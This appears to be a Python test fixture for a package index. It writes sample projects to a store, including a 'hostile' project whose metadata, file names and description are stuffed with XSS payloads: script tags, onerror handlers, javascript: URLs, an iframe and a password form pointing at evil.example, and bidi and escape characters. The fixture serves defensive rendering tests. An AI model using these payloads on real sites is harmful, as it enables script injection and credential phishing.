"""Projects that pages are looked at with, written into a store's folder at once.

No upload could make the hostile one; what is in a store may come from anywhere.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path

from attrs import evolve

from pypicloud_tw.index.manifest import encode, in_order, manifest_key
from pypicloud_tw.index.model import File, HistoryEntry, Project
from pypicloud_tw.index.names import project_name
from tests.builders import sdist, wheel

_MORNING = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)

#: Markup, what would be one in an attribute, controls, and what turns text around.
HOSTILE = (
    '"><script>document.title = "taken"</script><img src="//evil.example/x" '
    "onerror=\"document.title = 'taken'\">' \x00\x1b[31m\x85\u202egpj.exe\u2066\ufeff"
)

#: No place to break a line at.
UNBROKEN = "unbroken" * 60

#: Releases of the big project, and files of each.
RELEASES, FILES = 300, 17

_README = """\
A *tool* that makes **things**, from the [workshop](https://acme.example/).

## Usage

```python
from acme import make

make("a thing", of="wood", with_a_line_that_is_longer_than_a_phone_is_wide=True)
```

| Material | Strength | Costs | Where it is to be had | Remarks |
|----------|---------:|------:|-----------------------|---------|
| wood     |       12 |   3.0 | in every hardware store of the town | burns |
| iron     |      120 |  30.0 | from the smith, by appointment | rusts |

1. First `pip install acme`.
2. Then make something.

> What is made lasts.

![A picture](https://pictures.example/acme.png)
"""

_METADATA = """\
Metadata-Version: 2.1
Name: acme
Version: {version}
Summary: A tool that makes things of wood and iron
Home-page: https://acme.example/
Author: The workshop
Author-email: workshop@acme.example
License: MIT
Keywords: things,wood,iron
Classifier: Development Status :: 5 - Production/Stable
Classifier: Programming Language :: Python :: 3
Classifier: Programming Language :: Python :: 3.12
Project-URL: Documentation, https://docs.acme.example/
Project-URL: Changes, https://acme.example/changes
Requires-Python: >=3.9
Requires-Dist: big>=1.{version}
Requires-Dist: treq<30,>=24; python_version >= "3.9"
Provides-Extra: tests
Requires-Dist: hypothesis>=6; extra == "tests"
Description-Content-Type: text/markdown

{readme}"""


def write_corpus(store: Path) -> None:
    """Write the projects ``acme``, ``big``, ``hostile`` and one with a long name."""
    (store / ".index").mkdir(parents=True, exist_ok=True)
    for project in (_acme(store), _big(store), _hostile(store), _long(store)):
        (store / manifest_key(project.name)).write_bytes(encode(project))


def _acme(store: Path) -> Project:
    files = []
    for days, version in enumerate(("0.9", "1.0", "1.1", "1.2", "2.0rc1")):
        core = _METADATA.format(version=version, readme=_README).encode()
        code = [("acme/__init__.py", b'"""Makes things."""\n' * 20)]
        for filename, data in (
            (
                f"acme-{version}-py3-none-any.whl",
                wheel("acme", version, core_metadata=core, extra=code),
            ),
            (f"acme-{version}.tar.gz", sdist("acme", version)),
        ):
            file = _write(store, "acme", version, filename, data, core)
            at = _MORNING + timedelta(days=days)
            files.append(evolve(file, upload_time=at, uploader="publisher"))
    files = [
        evolve(file, yanked="It breaks iron.") if file.version == "1.1" else file
        for file in files
    ]
    history = [
        _entry("published", days, version=version, who="publisher")
        for days, version in enumerate(("0.9", "1.0", "1.1", "1.2", "2.0rc1"))
    ]
    yanked = _entry("yanked", 6, version="1.1", reason="It breaks iron.", who="boss")
    return _project("acme", files, history=(*history, yanked))


def _big(store: Path) -> Project:
    files = []
    for release in range(RELEASES):
        version = f"1.{release}.0"
        core = _core("big", version, {"Summary": "As many files as there are"})
        data = wheel("big", version, core_metadata=core)
        files += [
            _write(
                store,
                "big",
                version,
                f"big-{version}-cp3{minor}-cp3{minor}-manylinux_2_28_x86_64.whl",
                data,
                core,
            )
            for minor in range(FILES)
        ]
    return _project("big", files)


def _hostile(store: Path) -> Project:
    line = HOSTILE.replace("\x85", "").replace("\x00", "")
    core = _core(
        "hostile",
        "1.0",
        {
            "Summary": line + UNBROKEN,
            **dict.fromkeys(("Author", "Author-email", "Maintainer"), line),
            **dict.fromkeys(("License", "Keywords", "Classifier", "Platform"), line),
            "Home-page": "javascript:document.title='taken'",
            "Download-URL": "data:text/html,<script>1</script>",
            "Project-URL": f"{line}, javascript:document.title='taken'",
            "Requires-Dist": f"{UNBROKEN} ; extra == '{line}'",
            "Provides-Extra": UNBROKEN,
            "Requires-Python": line,
            "Description-Content-Type": "text/markdown",
        },
        _description(),
    )
    members = [(name, b"<script>1</script>\x00\x1b") for name in _MEMBERS]
    data = wheel("hostile", "1.0", core_metadata=core, extra=members)
    files = []
    for version in ("1.0", "0.9", f"0.1+{UNBROKEN[:200]}", HOSTILE):
        escaped = "".join(c for c in version if c.isalnum() or c in ".+")[:120]
        filename = f"hostile-{escaped}-py3-none-any.whl"
        file = _write(store, "hostile", version, filename, data, core)
        files.append(
            evolve(
                file,
                uploader=HOSTILE,
                summary=HOSTILE + UNBROKEN,
                requires_python=HOSTILE,
                yanked=None if version == "1.0" else HOSTILE + UNBROKEN,
                publisher={"issuer": HOSTILE, "repository": UNBROKEN},
            )
        )
    history = tuple(
        _entry("yanked", day, version=HOSTILE, reason=HOSTILE + UNBROKEN, who=HOSTILE)
        for day in range(20)
    )
    project = _project("hostile", files, history=history)
    return evolve(project, status="deprecated", status_reason=HOSTILE + UNBROKEN)


_MEMBERS = (
    "hostile/<img src=x onerror=alert(1)>.py",
    f"hostile/{UNBROKEN[:200]}.py",
    'hostile/"quoted" & more.py',
)


def _description() -> str:
    """Write a megabyte of what a description should not have."""
    once = (
        "# Title\n\n<script>document.title = 'taken'</script>\n"
        '<style>body { display: none }</style><base href="//evil.example/">\n'
        '<a href="javascript:alert(1)" onclick="alert(1)">a link</a>\n'
        '<form action="//evil.example/"><input name="password" autofocus></form>\n'
        '<h1 id="main">The same id</h1><iframe src="//evil.example/"></iframe>\n\n'
        f"![picture](https://evil.example/x.png) {UNBROKEN}\n\n"
        f"{'| column ' * 8}|\n{'|---' * 8}|\n{f'| {UNBROKEN} ' * 8}|\n\n"
    )
    return once * (2**20 // len(once))


def _long(store: Path) -> Project:
    name = "a-project-" + "with-a-name-longer-than-a-phone-is-wide-" * 3 + "at-least"
    escaped = name.replace("-", "_")
    core = _core(name, "1.0", {"Summary": "Its name is long"})
    filename = f"{escaped}-1.0-py3-none-any.whl"
    data = wheel(escaped, "1.0", core_metadata=core)
    return _project(name, [_write(store, name, "1.0", filename, data, core)])


def _project(
    name: str, files: Iterable[File], history: tuple[HistoryEntry, ...] = ()
) -> Project:
    normalized = project_name(name)
    return Project(normalized, name, in_order(files), history=history)


def _core(
    name: str, version: str, fields: Mapping[str, str], description: str = ""
) -> bytes:
    """Write core metadata."""
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}"]
    lines += [f"{field}: {value}" for field, value in fields.items()]
    return ("\n".join(lines) + f"\n\n{description}").encode()


def _entry(act: str, days: int, **more: str) -> HistoryEntry:
    at = _MORNING + timedelta(days=days)
    return HistoryEntry(f"{days:016x}", at, act, proof="password", count=1, **more)  # type: ignore[arg-type]  # all of these are texts


def _write(
    store: Path, project: str, version: str, filename: str, data: bytes, core: bytes
) -> File:
    """Write a file and its core metadata to where the store would have them."""
    id = sha256(filename.encode()).hexdigest()[:32]
    key = f"{project}/{id}/{filename}"
    place = store / key
    place.parent.mkdir(parents=True)
    place.write_bytes(data)
    Path(f"{place}.metadata").write_bytes(core)
    return File(
        filename=filename,
        version=version,
        key=key,
        size=len(data),
        sha256=sha256(data).hexdigest(),
        upload_time=_MORNING,
        summary=_summary(core),
        metadata_key=f"{key}.metadata",
        metadata_sha256=sha256(core).hexdigest(),
    )


def _summary(core: bytes) -> str | None:
    for line in core.decode().splitlines():
        if line.startswith("Summary: "):
            return line.removeprefix("Summary: ")[:512]
    return None
